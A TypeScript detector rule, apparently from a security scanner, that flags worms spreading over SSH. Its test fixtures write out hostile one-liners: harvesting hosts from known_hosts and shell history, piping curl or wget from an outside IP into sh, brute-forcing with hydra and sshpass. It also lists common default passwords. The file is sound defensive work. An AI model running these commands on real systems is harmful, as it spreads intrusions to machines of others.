import type { LoginEffect } from '../trace/effect.ts';
import type { Command } from '../trace/story.ts';
import { render, textOf } from '../trace/value.ts';
import { isDeclaredScanner } from './declared.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { payloadOf } from './payload.ts';
import { isScript } from './script-flow.ts';
import { settingOf } from './setting.ts';
import type { Threat } from './severity.ts';
import { findingOf, type Sighting, sightingOf } from './sighting.ts';
import { clip, valueWords } from './wording.ts';

/** Spreading to other machines by logging in to them. */
export const remoteSpread: Detector = {
  id: 'remote-spread',
  version: 1,
  title: 'Spreads to other machines by logging in to them.',
  attack: ['T1021.004', 'T1110', 'T1570'],
  description: `
A worm takes the keys it finds, looks up in \`known_hosts\` and the shell history where they fit, and starts itself there; or it
goes through a list of passwords. *Malicious* when the machines come from such places, or when a payload is started on machines
that are only known while running. *Suspicious* for guessing passwords (hydra, \`sshpass\` with a fixed password over a list), a
*note* in an image that calls itself a tool for that. Logging in to one's own machines by name, or to those the user lists, is
nothing.
`,
  fires: [
    {
      name: 'keys tried on known hosts',
      image: {
        cmd: [
          'sh',
          '-c',
          'for h in $(cut -d" " -f1 ~/.ssh/known_hosts | sort -u); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no root@$h "curl -s http://203.0.113.4/x.sh | sh"; done',
        ],
      },
    },
    {
      name: 'hosts out of the history',
      image: {
        cmd: [
          'bash',
          '-c',
          'cat ~/.bash_history | grep -oE "ssh [a-z]+@[0-9.]+" | while read -r _ t; do scp /tmp/w $t:/tmp/w; ssh $t /tmp/w & done',
        ],
      },
    },
    {
      name: 'a fixed password and a payload, over a list',
      image: {
        cmd: [
          'sh',
          '-c',
          'while read ip; do sshpass -p admin ssh -o StrictHostKeyChecking=no root@$ip "wget -qO- http://203.0.113.4/x|sh"; done < /ips',
        ],
      },
    },
    {
      name: 'guessing',
      severity: 'suspicious',
      image: { cmd: ['hydra', '-L', '/u', '-P', '/p', 'ssh://198.51.100.0/24'] },
    },
    {
      name: 'a fixed password over a range',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'for i in $(seq 1 254); do sshpass -p admin ssh root@10.0.0.$i id; done'] },
    },
    {
      name: 'a fixed password over a list',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'while read ip; do sshpass -p admin ssh root@$ip id; done < /ips'] },
    },
  ],
  silent: [
    {
      name: 'one’s own machines',
      image: { cmd: ['sh', '-c', 'for h in $HOSTS; do ssh deploy@$h "systemctl restart app"; done'] },
    },
    {
      name: 'a password that the user gives',
      image: {
        cmd: ['sh', '-c', 'sshpass -p "$PASSWORD" ssh $USER@$HOST "df -h"; sshpass -e scp /out/x $USER@$HOST:/srv/'],
      },
    },
    {
      name: 'making a host known',
      image: {
        cmd: [
          'sh',
          '-c',
          'grep -q "$HOST" ~/.ssh/known_hosts || ssh-keyscan $HOST >> ~/.ssh/known_hosts; ssh $HOST uptime',
        ],
      },
    },
    {
      name: 'a declared tool',
      severity: 'note',
      image: { name: 'docker.io/someones/pentest:1', cmd: ['hydra', '-l', 'root', '-P', '/p', 'ssh://198.51.100.7'] },
    },
  ],
  detect(scene) {
    return [...byCommands(scene), ...byLibrary(scene)];
  },
};

function byCommands(scene: Scene): readonly FindingDraft[] {
  const declared = isDeclaredScanner(scene);
  return effectsOf(scene, 'login').flatMap((effect) => {
    const sighting = sightingOf(scene, effect);
    const judged = judge(scene, effect, sighting, declared);
    if (!judged) return [];
    return findingOf(scene, sighting, {
      threat: judged.threat,
      title:
        effect.how === 'guess'
          ? `Guesses passwords of ${valueWords(effect.to, 80) || 'other machines'} with ${effect.tool}`
          : `Logs in to ${valueWords(effect.to, 80)} and runs ${effect.carries ? `“${clip(render(effect.carries), 80)}”` : 'commands'} there`,
      because: judged.because,
      effects: [effect.id],
      encodingDeceives: !declared,
    });
  });
}

/** A script with an SSH library and a list of the passwords that everybody tries. */
function byLibrary(scene: Scene): readonly FindingDraft[] {
  const declared = isDeclaredScanner(scene);
  return scene.story.stages.flatMap((stage) => {
    if (!isScript(stage) || settingOf(stage.where.path)) return [];
    const text = stage.text.slice(0, 300_000);
    if (!sshLibraries.some((word) => text.includes(word)) || !/\bfor\b|each|while|map\(/.test(text)) return [];
    const tried = commonPasswords.filter(
      (word) =>
        text.includes(`'${word}'`) ||
        text.includes(`"${word}"`) ||
        text.includes(`:${word}'`) ||
        text.includes(`:${word}"`),
    );
    if (tried.length < 4) return [];
    const at = text.indexOf(sshLibraries.find((word) => text.includes(word)) ?? '');
    const sighting = sightingOf(scene, { stage: stage.id, line: text.slice(0, at).split('\n').length });
    const payload = payloadOf(scene, stage.id);
    return findingOf(scene, sighting, {
      threat: declared ? 'minor' : payload?.worst === 'hostile' ? 'hostile' : 'dual-use',
      title: `Tries common passwords on other machines (${tried.slice(0, 4).join(', ')} …)`,
      because: payload?.worst === 'hostile' ? `The same code runs ${payload.what}.` : undefined,
      confidence: 'medium',
      encodingDeceives: !declared,
    });
  });
}

const sshLibraries = [
  'paramiko',
  'asyncssh',
  'pexpect',
  'pxssh',
  'ssh2',
  'Net::SSH',
  'Net::OpenSSH',
  'phpseclib',
  'ssh2_connect',
  'com.jcraft.jsch',
  'node-ssh',
];
/** From published statistics of honeypots: what automated logins try first. */
const commonPasswords = [
  'root',
  'admin',
  '123456',
  'password',
  'toor',
  'qwerty',
  '12345',
  '1234',
  '12345678',
  'raspberry',
  'ubuntu',
  'test',
  'guest',
  'user',
  'changeme',
  'default',
  'letmein',
  'pass',
  'abc123',
  '111111',
  'p@ssw0rd',
  'P@ssw0rd',
  'root123',
  'admin123',
  'vizxv',
  'xc3511',
  'oracle',
  'pi',
  'support',
];

function judge(
  scene: Scene,
  effect: LoginEffect,
  sighting: Sighting,
  declared: boolean,
): { readonly threat: Threat; readonly because: string } | undefined {
  if (effect.how === 'guess') {
    return {
      threat: declared ? 'minor' : 'dual-use',
      because: 'Going through passwords is how machines of others are entered.',
    };
  }
  if (textOf(effect.to) !== undefined) return undefined;
  const harvest = harvestedFrom(scene, effect, sighting);
  if (harvest) return { threat: 'hostile', because: `The machines come out of ${harvest}.` };
  if (isNamedByUser(effect)) return undefined;
  const nested = scene.story.stages.find(
    (stage) => stage.parent === effect.stage && stage.outside?.startsWith('ssh ') === true,
  );
  const payload = payloadOf(scene, nested?.id);
  const fixed = effect.how === 'password' && hasFixedPassword(sighting.command);
  if (payload && (payload.worst === 'hostile' || fixed))
    return { threat: 'hostile', because: `It runs ${payload.what} on machines that it only learns while running.` };
  return fixed ? { threat: 'dual-use', because: 'It tries one fixed password on a list of machines.' } : undefined;
}

/** Where the names of the machines were taken from, when that is nobody's list of own machines. */
function harvestedFrom(scene: Scene, effect: LoginEffect, sighting: Sighting): string | undefined {
  const own = `${render(effect.to)} ${(sighting.command?.redirects ?? []).map(({ target }) => render(target)).join(' ')}`;
  const direct = places.find(([mark]) => own.includes(mark));
  if (direct) return direct[1];
  for (const command of scene.story.commands) {
    if (command.stage !== effect.stage || !extractors.has(command.name)) continue;
    const words = command.argv.slice(1).map(render);
    if (command.name === 'grep' && !words.some((word) => /^-[a-zA-Z]*[oE]/.test(word))) continue;
    const place = places.find(([mark]) => words.some((word) => word.includes(mark)));
    if (place) return place[1];
  }
  return undefined;
}

const extractors = new Set(['awk', 'cut', 'sed', 'cat', 'grep', 'egrep', 'sort', 'tr', 'strings', 'gawk', 'mawk']);
const places: readonly (readonly [string, string])[] = [
  ['known_hosts', 'the list of known hosts'],
  ['_history', 'the shell history'],
  ['$(arp', 'the neighbours on the network'],
  ['$(ip neigh', 'the neighbours on the network'],
  ['$(last', 'the list of logins'],
  ['$(masscan', 'a sweep of the network'],
];

/** `$HOST`, `$REMOTE_HOST`: a variable in capitals that the code does not set is the user's. */
function isNamedByUser(effect: LoginEffect): boolean {
  const holes = effect.to.filter((part) => typeof part !== 'string');
  return holes.every((part) => typeof part !== 'string' && /^\$\{?[A-Z][A-Z0-9_]{2,60}\}?$/.test(part.hole));
}

/** `sshpass -p word ssh …`: a password that stands in the code. */
function hasFixedPassword(command: Command | undefined): boolean {
  if (!command?.via.includes('sshpass')) return false;
  const word = /sshpass\s{1,4}-p\s{0,4}["']?([^\s"']{1,100})/.exec(command.text)?.[1];
  return word !== undefined && !word.includes('$') && !word.includes('`');
}
